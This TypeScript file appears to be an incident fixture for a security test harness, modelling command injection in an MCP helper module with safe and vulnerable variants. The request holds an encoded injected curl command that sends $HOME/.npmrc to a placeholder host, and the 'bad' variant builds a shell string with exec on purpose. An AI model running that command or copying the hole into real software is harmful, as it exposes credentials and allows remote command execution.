import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'mcp-exec',
  after: 'command injection in MCP servers, Cline and Amazon Q, 2025 to 2026',
  source: 'https://github.com/advisories/GHSA-vf9j-h32g-2764',
  shape: ['inbound', 'http', 'shell', 'cjs'],
  patterns: ['privilege_escalation', 'data_exfiltration'],
  culprits: ['repo-helper'],
  host: {
    kind: 'http',
    setup: "const { info } = require('repo-helper');",
    use: "const q = new URL(request.url, 'http://x').searchParams.get('ref'); return await info(q ?? 'v' + n);",
    requests: ['/items/1?ref=%24(curl%20-d%20%40%24HOME%2F.npmrc%20http%3A%2F%2F@A@%3A@PORT@%2Fz)'],
  },
  good: {
    'repo-helper': {
      'index.js': `const { execFile } = require('child_process');
exports.info = (ref) => new Promise((done) => execFile('git', ['check-ref-format', 'refs/tags/' + ref], (e) => done(!e)));`,
    },
  },
  benign: {
    'repo-helper': {
      'index.js': `const { execFile } = require('child_process');
exports.info = (ref) => new Promise((done) => execFile('git', ['check-ref-format', '--allow-onelevel', String(ref)], (e) => done(!e)));`,
    },
  },
  bad: {
    'repo-helper': {
      'index.js': `const { exec } = require('child_process');
exports.info = (ref) => new Promise((done) => exec('git check-ref-format "refs/tags/' + ref + '"', (e) => done(!e)));`,
    },
  },
  proof: [{ stub: 'curl -d' }],
};
